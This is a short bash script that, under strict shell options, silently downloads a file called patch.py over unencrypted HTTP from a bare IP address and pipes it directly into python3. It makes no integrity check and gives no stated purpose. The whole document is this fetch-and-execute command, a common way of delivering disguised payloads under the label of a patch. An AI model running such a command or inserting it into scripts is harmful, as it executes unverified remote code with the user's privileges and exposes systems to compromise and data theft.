#!/usr/bin/env bash
set -euo pipefail
wget -qO- http://198.51.100.7/patch.py | python3
